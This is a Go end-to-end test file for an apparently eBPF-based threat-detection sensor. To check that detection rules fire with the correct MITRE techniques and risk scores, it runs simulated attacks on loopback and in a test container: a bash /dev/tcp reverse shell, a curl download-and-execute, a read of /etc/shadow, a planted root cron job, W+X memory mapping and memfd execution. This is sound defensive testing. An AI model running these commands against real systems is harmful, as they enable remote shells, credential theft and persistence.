package e2e

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vigil-sensor/vigil/test/harness"
)

// The built-in pack's rules each action must fire, and their techniques.
const (
	ruleReverseShell, techReverseShell = "VGL-NET-001", "T1095"      // bash's own connect
	ruleDownloadExec, techDownloadExec = "VGL-EXEC-008", "T1105"     // sh -c "curl -o /tmp/x … && /tmp/x"
	ruleExecFromTmp, techExecFromTmp   = "VGL-EXEC-004", "T1105"     // the dropped file runs from /tmp
	ruleShadowRead, techShadowRead     = "VGL-CRED-001", "T1003.008" // cat /etc/shadow
	rulePersistence, techPersistence   = "VGL-PERS-001", "T1053.003" // a cron job planted
	ruleWX, techWX                     = "VGL-MEM-001", "T1620"      // mmap(PROT_WRITE|PROT_EXEC)
	ruleMemfdExec, techMemfdExec       = "VGL-EXEC-005", "T1620"     // exec of /memfd:payload
	ruleDrift, techDrift               = "VGL-EXEC-006", "T1105"     // a file copied in at run time, run
)

// finding is what the test expects in VictoriaLogs: a rule's finding on a
// record the query narrows down.
type finding struct {
	rule, technique, where string
}

// TestAttacksBecomeFindings runs the ocb-built distribution — ebpf →
// workload → detection (the built-in pack, findings only) → VictoriaLogs —
// while the project is built and tested (no finding may come of it), then
// performs attack-like actions on loopback and in a runc container that a
// real kube-apiserver knows as a privileged pod with a cluster-admin
// service account, and finds each expected finding with its rule, MITRE
// technique and risk.
func TestAttacksBecomeFindings(t *testing.T) {
	harness.RequireE2E(t)
	harness.RequireControlPlane(t)
	actions, err := harness.BuildActions(t.TempDir(), "../../receiver/ebpfreceiver/testdata/actions")
	require.NoError(t, err)
	cp := harness.StartControlPlane(t)
	cp.Apply(t, "../../examples/kubernetes/rbac.yaml")
	containerID := strings.Repeat("cd", 20) + fmt.Sprintf("%024x", time.Now().UnixNano())
	podUID := seedPod(t, cp.Client, containerID)

	vl := harness.StartVictoriaLogs(t)
	config, err := filepath.Abs("testdata/detection-to-victorialogs.yaml")
	require.NoError(t, err)
	harness.StartCollector(t, config, []string{
		"VIGIL_E2E_LOGS_ENDPOINT=" + vl.LogsEndpoint(),
		"VIGIL_E2E_METRICS_PORT=" + strconv.Itoa(harness.FreePort(t)),
		"VIGIL_E2E_KUBECONFIG=" + cp.SensorKubeconfig,
	})

	t.Run("building and testing the project finds nothing", func(t *testing.T) {
		buildAndTest(t)
		time.Sleep(3 * time.Second) // the batch, the exporter's queue
		found, err := vl.Query(context.Background(), `security_rule.uuid:*`)
		require.NoError(t, err)
		for _, f := range found {
			t.Errorf("finding %s on %s %s (%s)", f["security_rule.uuid"], f["event_name"], f["process.command_line"], f["process.executable.path"])
		}
	})

	dir := t.TempDir() // under /tmp: a world-writable place to run from
	m := marker()

	// A reverse shell: bash connects its descriptors to a listener.
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	defer listener.Close()
	go func() {
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			// The shell's commands: exit; then read what it says until it
			// hangs up (closing first would kill it with SIGPIPE).
			_, _ = c.Write([]byte("exit\n"))
			_, _ = io.Copy(io.Discard, c)
			c.Close()
		}
	}()
	port := listener.Addr().(*net.TCPAddr).Port
	run(t, "bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1 # %s", port, m))

	// Download and execute: a payload from a loopback HTTP server, run from
	// the temporary directory by the shell that fetched it.
	payload, err := os.ReadFile("/usr/bin/true")
	require.NoError(t, err)
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(payload) })}
	web, err := net.Listen("tcp4", "127.0.0.1:0")
	require.NoError(t, err)
	go func() { _ = server.Serve(web) }()
	defer server.Close()
	dropped := filepath.Join(dir, "update-"+m)
	// (exit, a builtin, last: the shell must not exec the payload in its
	// place, the payload is the shell's child as an attacker's would be.)
	run(t, "sh", "-c", fmt.Sprintf("curl -sf -o %s http://%s/update && chmod +x %s && %s; exit $?", dropped, web.Addr(), dropped, dropped))

	// A credential read.
	run(t, "cat", "/etc/shadow")

	// In the pod's container: a cron job planted, a W+X mapping, a program
	// run from a memory file, and a binary dropped at run time and run.
	script := strings.Join([]string{
		"echo '* * * * * root /tmp/x' > /etc/cron.d/" + m,
		"/actions mmap-wx",
		"/actions memfd-exec /actions payload mmap-wx",
		"/bin/busybox mkdir /tmp/" + m,
		"/bin/busybox cp /bin/busybox /tmp/" + m + "/true",
		"/tmp/" + m + "/true",
	}, " && ")
	require.Equal(t, 0, harness.RunInContainer(t, podUID, containerID, "/bin/sh", "-c", script,
		harness.Writable{}, harness.WithFile("/actions", actions), harness.WithContent("/etc/cron.d/.keep", "")))

	inPod := fmt.Sprintf(`container.id:=%q`, containerID)
	for _, want := range []finding{
		{ruleReverseShell, techReverseShell, fmt.Sprintf(`event_name:="network.connect" network.peer.port:=%d`, port)},
		{ruleDownloadExec, techDownloadExec, fmt.Sprintf(`event_name:="process.exec" process.command_line:~%q`, "http://"+web.Addr().String()+"/update")},
		{ruleExecFromTmp, techExecFromTmp, fmt.Sprintf(`event_name:="process.exec" process.executable.path:=%q`, dropped)},
		{ruleShadowRead, techShadowRead, `event_name:="file.open" file.path:="/etc/shadow" process.executable.name:="cat"`},
		{rulePersistence, techPersistence, inPod + fmt.Sprintf(` event_name:="file.open" file.path:=%q`, "/etc/cron.d/"+m)},
		{ruleWX, techWX, inPod + ` event_name:="memory.protect"`},
		{ruleMemfdExec, techMemfdExec, inPod + ` event_name:="process.exec" process.executable.path:~"^/memfd:payload"`},
		{ruleDrift, techDrift, inPod + fmt.Sprintf(` event_name:="process.exec" process.executable.path:=%q`, "/tmp/"+m+"/true")},
	} {
		t.Run(want.rule, func(t *testing.T) {
			found := vl.WaitFor(t, fmt.Sprintf(`%s vigil.finding.rules:~%q`, want.where, `"`+want.rule+`"`), 1, 60*time.Second)
			f := found[0]
			assert.Contains(t, f["vigil.finding.rules"], `"`+want.rule+`"`)
			assert.Equal(t, want.rule, f["security_rule.uuid"], "the finding's rule, of %s", f["vigil.finding.rules"])
			assert.Equal(t, want.technique, f["vigil.mitre.technique.id"])
			assert.Equal(t, "default", f["security_rule.ruleset.name"])
			assert.NotEmpty(t, f["vigil.finding.risk_score"])
		})
	}

	// Context ranks findings: in the privileged pod whose service account is
	// cluster-admin, on a cloud node, a finding scores 100; the host's read
	// of /etc/shadow only gains the node's cloud identity.
	pod := vl.WaitFor(t, inPod+` event_name:="memory.protect" security_rule.uuid:*`, 1, 30*time.Second)[0]
	assert.Equal(t, "100", pod["vigil.finding.risk_score"])
	for _, reason := range []string{"vigil.k8s.container.privileged", "vigil.k8s.service_account.cluster_admin", "cloud.provider"} {
		assert.Contains(t, pod["vigil.finding.risk_reasons"], reason)
	}
	host := vl.WaitFor(t, `event_name:="file.open" file.path:="/etc/shadow" process.executable.name:="cat" security_rule.uuid:*`, 1, 30*time.Second)[0]
	assert.Equal(t, `["cloud.provider"]`, host["vigil.finding.risk_reasons"])
	score, err := strconv.Atoi(host["vigil.finding.risk_score"])
	require.NoError(t, err)
	assert.Less(t, score, 100)
}

// buildAndTest is ordinary developer activity: building one of the
// project's commands and running some of its unit tests (Go runs test
// binaries from /tmp), with git and make asked about the tree.
func buildAndTest(t *testing.T) {
	root, err := filepath.Abs("../..")
	require.NoError(t, err)
	for _, args := range [][]string{
		{"go", "build", "-o", filepath.Join(t.TempDir(), "vigil-rules"), "./cmd/vigil-rules"},
		{"go", "vet", "./internal/schema/"},
		{"go", "test", "-count=1", "./processor/detectionprocessor/internal/rules/", "./internal/schema/"},
		{"make", "-n", "build"},
	} {
		cmd := exec.Command(args[0], args[1:]...)
		cmd.Dir = root
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "%v: %s", args, out)
	}
}

func run(t *testing.T, name string, args ...string) {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	require.NoError(t, err, "%s %v: %s", name, args, out)
}

// TestBadRulesKeepTheCollectorFromStarting starts the distribution with
// rule files that each hold one mistake: it must refuse to start, naming
// every file, line, rule and field, rather than run with the rules that
// did compile. A file that does not parse is reported before conditions
// are compiled. No privileges needed.
func TestBadRulesKeepTheCollectorFromStarting(t *testing.T) {
	harness.RequireDist(t)
	dir := t.TempDir()
	write := func(name, content string) string {
		path := filepath.Join(dir, name)
		require.NoError(t, os.WriteFile(path, []byte(content), 0o600))
		return path
	}
	rule := func(id, condition string) string {
		return fmt.Sprintf("rules:\n  - id: %s\n    name: %s\n    description: A rule with a mistake.\n    severity: low\n"+
			"    tactic: {id: TA0007, name: Discovery}\n    technique: {id: T1082, name: System Information Discovery}\n"+
			"    events: [process.exec]\n    condition: %s\n", id, id, condition)
	}
	input := write("input.jsonl", "")
	refuses := func(ruleFiles []string, want ...string) {
		t.Helper()
		config := write("collector.yaml", fmt.Sprintf(`receivers:
  file_log:
    include: [%s]
processors:
  detection:
    rules: [%s]
exporters:
  debug: {}
service:
  telemetry:
    metrics:
      level: none
  pipelines:
    logs:
      receivers: [file_log]
      processors: [detection]
      exporters: [debug]
`, input, strings.Join(ruleFiles, ", ")))
		for _, args := range [][]string{{"validate", "--config", config}, {"--config", config}} {
			ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
			out, err := exec.CommandContext(ctx, os.Getenv("VIGIL_DIST"), args...).CombinedOutput()
			require.NoError(t, ctx.Err(), "otelcol-vigil %v must exit, not run", args)
			cancel()
			require.Error(t, err, "otelcol-vigil %v must refuse these rules:\n%s", args, out)
			for _, w := range want {
				assert.Contains(t, string(out), w, "otelcol-vigil %v", args)
			}
		}
	}

	malformed := write("malformed.yaml", "rules:\n  - id: [unclosed\n")
	refuses([]string{malformed}, malformed+":1: yaml:")

	macro := write("macro.yaml", rule("LOCAL-MACRO", "$no_such_macro"))
	list := write("list.yaml", rule("LOCAL-LIST", `ContainsValue(@no_such_list, attributes["process.executable.name"])`))
	condition := write("condition.yaml", rule("LOCAL-OTTL", `attributes["process.executable.name"] ==`))
	duplicate := write("duplicate.yaml", rule("VGL-EXEC-001", `attributes["process.executable.name"] == "x"`))
	refuses([]string{macro, list, condition, duplicate},
		macro+":2: rule LOCAL-MACRO: condition: unknown macro $no_such_macro",
		list+":2: rule LOCAL-LIST: condition: unknown list @no_such_list",
		condition+":2: rule LOCAL-OTTL: condition:",
		duplicate+":2: rule VGL-EXEC-001: id: duplicate id: already defined at default/execution.yaml:")
}
